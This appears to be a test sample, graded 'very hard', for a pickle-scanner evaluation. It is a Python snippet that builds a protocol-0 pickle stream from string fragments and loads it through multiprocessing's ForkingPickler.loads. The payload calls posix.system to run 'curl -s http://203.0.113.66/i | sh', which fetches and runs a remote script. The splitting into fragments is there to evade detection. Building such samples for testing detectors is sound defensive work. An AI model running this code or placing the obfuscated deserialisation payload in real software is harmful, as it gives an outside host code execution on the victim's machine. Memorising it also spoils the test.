# evasion: a protocol-0 pickle stream assembled from parts at runtime and loaded by multiprocessing's ForkingPickler.loads
# grade: very hard; does: shell
from multiprocessing.reduction import ForkingPickler

parts = ["c" + "po" + "six", "sys" + "tem", "(V" + "curl -s http://203.0.113.66/i | sh", "tR."]
stream = "\n".join(parts).encode()
ForkingPickler.loads(stream)
